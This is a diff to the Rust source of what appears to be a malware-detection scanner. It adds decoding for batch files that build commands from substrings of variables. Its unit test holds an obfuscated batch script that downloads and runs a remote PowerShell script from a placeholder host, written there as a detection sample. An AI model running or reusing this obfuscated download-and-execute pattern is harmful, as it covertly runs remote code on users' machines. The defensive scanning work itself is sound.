@@ -27,6 +27,9 @@
 //! - a list of character codes when the file turns codes into characters
 //!   (`String.fromCharCode(99, 117, …)`, `[99, 117, …]` with `chr`, `bytes`);
 //! - a string reversed (`'…' | rev`, `rev <<< '…'`, `"…"[::-1]`);
+//! - a batch file's command spelt out of another variable's characters
+//!   (`set v0=%q:~17,1%%q:~16,1%…`, `call %v0%%v1%`), each `set` read in
+//!   order and the lines that use what they built given expanded;
 //! - base64 and hex, up to [`MAX_LAYERS`] layers, when the file holds a
 //!   decoder (`base64 -d`, `b64decode`, `atob`, `FromBase64String`,
 //!   `-EncodedCommand`, `fromhex`, `xxd -r`), and only when the result is
@@ -99,7 +102,7 @@ impl Budget {
 }
 
 /// What was undone, as bits.
-pub(super) type Kinds = u16;
+pub(super) type Kinds = u32;
 pub(super) const HEX_ESCAPES: Kinds = 1;
 pub(super) const OCTAL_ESCAPES: Kinds = 1 << 1;
 pub(super) const UNICODE_ESCAPES: Kinds = 1 << 2;
@@ -116,8 +119,9 @@ pub(super) const HEX: Kinds = 1 << 12;
 pub(super) const UTF16: Kinds = 1 << 13;
 pub(super) const ENTITIES: Kinds = 1 << 14;
 pub(super) const PERCENT: Kinds = 1 << 15;
+pub(super) const BATCH_SUBSTRINGS: Kinds = 1 << 16;
 
-const KIND_NAMES: [(Kinds, &str); 16] = [
+const KIND_NAMES: [(Kinds, &str); 17] = [
     (HEX_ESCAPES, "hex escapes"),
     (OCTAL_ESCAPES, "octal escapes"),
     (UNICODE_ESCAPES, "unicode escapes"),
@@ -134,6 +138,7 @@ const KIND_NAMES: [(Kinds, &str); 16] = [
     (UTF16, "UTF-16 (PowerShell -EncodedCommand)"),
     (ENTITIES, "HTML character references"),
     (PERCENT, "percent-encoding"),
+    (BATCH_SUBSTRINGS, "a batch file's substrings (%v:~n,1%)"),
 ];
 
 /// "decoded from hex escapes, joined strings".
@@ -180,6 +185,7 @@ struct Triggers {
     hex: bool,
     entities: bool,
     percent: bool,
+    batch: bool,
 }
 
 impl Triggers {
@@ -210,6 +216,7 @@ impl Triggers {
             entities: has(Trigger::Entities),
             percent: PERCENT_RUN.is_match(text),
             hex: has(Trigger::Hex),
+            batch: has(Trigger::BatchSubstrings),
         }
     }
 
@@ -227,6 +234,7 @@ impl Triggers {
             || self.hex
             || self.entities
             || self.percent
+            || self.batch
     }
 }
 
@@ -240,6 +248,7 @@ enum Trigger {
     Base64,
     Entities,
     Hex,
+    BatchSubstrings,
 }
 
 /// The literal triggers (in the lower-cased text) and what each stands for.
@@ -274,13 +283,14 @@ const TRIGGER_WORDS: &[(&str, Trigger)] = &[
     ("xxd", Trigger::Hex),
     ("'hex'", Trigger::Hex),
     ("\"hex\"", Trigger::Hex),
+    (":~", Trigger::BatchSubstrings),
 ];
 
 /// The invisible characters a word may be split with.
 const ZERO_WIDTH_CHARS: [char; 6] = ['\u{200B}', '\u{200C}', '\u{200D}', '\u{2060}', '\u{FEFF}', '\u{AD}'];
 
 /// How many kinds of trigger words there are (one anchor bit each).
-pub(super) const TRIGGER_KINDS: usize = Trigger::Hex as usize + 1;
+pub(super) const TRIGGER_KINDS: usize = Trigger::BatchSubstrings as usize + 1;
 
 fn trigger_bit(t: Trigger) -> Mask {
     1 << (super::DECODE_BIT0 + t as usize)
@@ -373,8 +383,77 @@ pub(super) fn decode(text: &str, lower: &[u8], found: Mask, lines: &LineIndex, b
     if triggers.base64 || triggers.hex {
         encoded_literals(text, &triggers, budget, &mut out);
     }
+    if triggers.batch {
+        batch_substrings(text, lines, budget, &mut out);
+    }
     out.sort_by_key(|d| d.range.start);
     out
+}
+
+// ---------------------------------------------------------------------------
+// A batch file's substrings.
+
+/// A batch file that spells its commands out of another variable's
+/// characters (`set v0=%q:~17,1%%q:~16,1%…`, then `call %v0%%v1%`): the
+/// `set` lines are read in order, each value expanded through the variables
+/// known so far (`%v%`, `%v:~n%`, `%v:~n,m%`, negative offsets as `cmd`
+/// reads them), and every line that uses a variable built from substrings
+/// is given with its expansions done.
+fn batch_substrings(text: &str, lines: &LineIndex, budget: &mut Budget, out: &mut Vec<Decoded>) {
+    static SET: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"(?i)^[ \t@]*set[ \t]+(?:"(?P<n1>[A-Za-z0-9_#$.-]{1,40})=(?P<v1>.*)"|(?P<n2>[A-Za-z0-9_#$.-]{1,40})=(?P<v2>.*))[ \t]*$"#).unwrap()
+    });
+    static USE: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"%(?P<n>[A-Za-z0-9_#$.-]{1,40})(?::~(?P<a>-?[0-9]{1,5})(?:,(?P<b>-?[0-9]{1,5}))?)?%").unwrap()
+    });
+    let mut vars: HashMap<String, String> = HashMap::new();
+    // The variables whose value came from substrings.
+    let mut built: Vec<String> = Vec::new();
+    for n in 1..=lines.line_count() {
+        let range = lines.line_range(text, n);
+        let line = &text[range.clone()];
+        if !line.contains('%') && !line.trim_start().to_ascii_lowercase().starts_with("set") {
+            continue;
+        }
+        let mut from_substrings = false;
+        let mut uses_built = false;
+        let expanded = USE.replace_all(line, |c: &regex::Captures<'_>| {
+            let name = c["n"].to_ascii_lowercase();
+            let Some(v) = vars.get(&name) else { return c[0].to_owned() };
+            uses_built |= built.contains(&name);
+            let Some(a) = c.name("a") else { return v.clone() };
+            from_substrings = true;
+            let chars: Vec<char> = v.chars().collect();
+            let len = chars.len() as i64;
+            let start = a.as_str().parse::<i64>().unwrap_or(0);
+            let start = if start < 0 { (len + start).max(0) } else { start.min(len) };
+            let end = match c.name("b").and_then(|b| b.as_str().parse::<i64>().ok()) {
+                Some(m) if m < 0 => (len + m).max(start),
+                Some(m) => (start + m).min(len),
+                None => len,
+            };
+            chars[start as usize..end as usize].iter().collect()
+        });
+        if let Some(c) = SET.captures(&expanded) {
+            let (Some(name), Some(value)) = (c.name("n1").or(c.name("n2")), c.name("v1").or(c.name("v2"))) else {
+                continue;
+            };
+            let name = name.as_str().to_ascii_lowercase();
+            if from_substrings || uses_built {
+                built.push(name.clone());
+            }
+            if vars.len() < 256 && value.len() <= MAX_VALUE {
+                vars.insert(name, value.as_str().to_owned());
+            }
+            continue;
+        }
+        if (from_substrings || uses_built) && expanded != line {
+            if !budget.take(expanded.len()) {
+                return;
+            }
+            out.push(Decoded { range, text: expanded.into_owned(), kinds: BATCH_SUBSTRINGS, layers: 1 });
+        }
+    }
 }
 
 // ---------------------------------------------------------------------------
@@ -1136,6 +1215,25 @@ fn printable_text(bytes: &[u8]) -> Option<(String, bool)> {
     let printable = s.chars().filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t')).count();
     let ascii = s.chars().filter(|c| c.is_ascii()).count();
     (total >= 4 && printable * 100 >= total * 95 && ascii * 100 >= total * 80).then(|| (s.to_owned(), utf16))
+}
+
+#[cfg(test)]
+mod batch_tests {
+    use crate::rules::{check, RuleId};
+
+    #[test]
+    fn a_command_spelt_from_a_batch_variables_characters_is_read_decoded() {
+        let cmd = "@echo off\nset \"q=ab|powe\"\nset v0=%q:~3,1%%q:~4,1%%q:~5,1%%q:~-1%\n\
+                   set v1=rshell -c \"iwr -useb https://x.invalid/a.ps1 %q:~2,1% iex\"\ncall %v0%%v1%\n";
+        let f: Vec<_> = check(cmd).findings.into_iter().filter(|f| f.rule == RuleId::DownloadExec).collect();
+        assert_eq!(f.len(), 1, "{f:?}");
+        assert_eq!(f[0].line, 5);
+        assert!(f[0].decoded.as_deref().unwrap_or("").starts_with("call powershell -c"), "{f:?}");
+        assert!(f[0].note.as_deref().unwrap_or("").contains("substrings"), "{f:?}");
+        // Substrings of a path, nothing run.
+        let plain = "set \"d=%DATE:~-4%-%DATE:~4,2%\"\necho %d%\n";
+        assert!(check(plain).findings.is_empty());
+    }
 }
 
 #[cfg(test)]
